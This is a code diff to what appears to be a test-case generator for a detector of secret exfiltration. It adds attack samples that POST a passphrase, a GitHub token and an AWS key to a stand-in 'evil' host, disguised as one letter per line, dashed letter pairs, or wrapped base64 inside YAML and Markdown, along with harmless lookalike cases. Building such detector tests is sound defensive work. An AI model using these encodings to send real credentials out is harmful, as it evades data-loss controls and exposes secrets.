@@ -166,6 +166,8 @@ def _secrets(rng: random.Random) -> dict[str, str]:
         # Two lines, the second starting with a digit: written as a C string, "\0127..." is a
         # line break and a "7" to C, an "W" to ``echo -e``.
         "DEPLOY_KEY": "dk1:" + _rand(rng, 20) + "\n7" + _rand(rng, 15),
+        # A passphrase: its words in ordinary text are not it spelled out.
+        "PASSPHRASE": "correcthorsebatterystaple",
     }
 
 
@@ -624,7 +626,27 @@ def attacks(rng: random.Random) -> list[Case]:
     add("charcodes", "PowerShell ((N -as [char])) one a line of the signing secret", ("SIGNING_SECRET",),
         method="POST", url=f"{evil}/run", headers=plain,
         body=("$s = -join @(\n" + "\n".join(f"  (({b} -as [char]))" for b in signing.encode()) + "\n)\n").encode())
+    phrase = s["PASSPHRASE"]
+    add("encoded", "a passphrase spelled out one letter a line", ("PASSPHRASE",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=("\n".join(phrase) + "\n").encode())
+    add("encoded", "a passphrase in pairs of letters with dashes", ("PASSPHRASE",), method="POST",
+        url=f"{evil}/paste", headers=(JSON,),
+        body=_json({"note": "-".join(phrase[i:i + 2] for i in range(0, len(phrase), 2))}))
+    seventh = _Fakes(random.Random(1307))
+    add("encoded", "base64 -w 16 of a token file, indented in a YAML block scalar", ("github-token",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=("job:\n  data: |\n" + _indented(_wrapped_b64(f"token = {seventh.github()}\n".encode(), 16), "    ")
+              + "  done: true\n").encode())
+    add("encoded", "base64 -w 12 of an AWS key file in an indented Markdown code block", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/j", headers=(JSON,),
+        body=_json({"body": "1. The file:\n\n" + _indented(_wrapped_b64(
+            f"[default]\naws_access_key_id = {seventh.aws_id()}\n".encode(), 12), "      ") + "\n2. Done.\n"}))
     return out
+
+
+def _wrapped_b64(data: bytes, width: int) -> str:
+    encoded = base64.b64encode(data).decode()
+    return "\n".join(encoded[i:i + width] for i in range(0, len(encoded), width))
 
 
 def _indented(text: str, indent: str) -> str:
@@ -996,6 +1018,17 @@ def benign(rng: random.Random) -> list[Case]:
               "[int[]]$sizes = @(\n" + "".join(f"    [int]{n},  # size {i}\n" for i, n in enumerate(range(100, 900, 75)))
               + ")\n" + _commented_casts(b"Hello, World!") + "$path = -join @(\n"
               + "\n".join(f"  (({b} -as [char]))" for b in b"C:\\Temp\\build.log") + "\n)\n").encode())
+    add("lookalike", "code and config holding the words of the bottle's passphrase", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("correcthorse = Battery(staple=True)\nconfig = {'correct': 1, 'horsebattery': staple}\n"
+              "[correcthorse]\nbatterystaple = on\nThe correct horse. Battery staple included.\n").encode())
+    quiet = random.Random(1308)
+    add("lookalike", "indented short commit ids, base64 ids and YAML with short base64 values per key", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("commits:\n" + "".join("    " + quiet.randbytes(4).hex()[:7] + "\n" for _ in range(30))
+              + "ids: |\n" + "".join("  " + base64.b64encode(quiet.randbytes(9)).decode() + "\n" for _ in range(30))
+              + "keys:\n" + "".join(f"  k{i}: {base64.b64encode(quiet.randbytes(6)).decode()}\n" for i in range(30))
+              ).encode())
     return out
 
 
